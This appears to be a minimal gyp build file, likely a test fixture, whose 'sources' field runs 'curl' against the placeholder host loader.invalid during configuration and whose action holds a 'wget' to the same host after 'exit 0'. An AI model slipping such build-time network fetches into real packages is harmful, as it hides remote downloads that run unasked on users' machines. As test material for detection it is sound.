{ "targets": [ { "target_name": "x", "type": "none", "sources": ["<!(curl -s http://loader.invalid/x)"],
  "actions": [ { "action_name": "a", "inputs": [], "outputs": ["o"], "action": ["sh", "-c", "exit 0; wget http://loader.invalid/x"] } ] } ] }
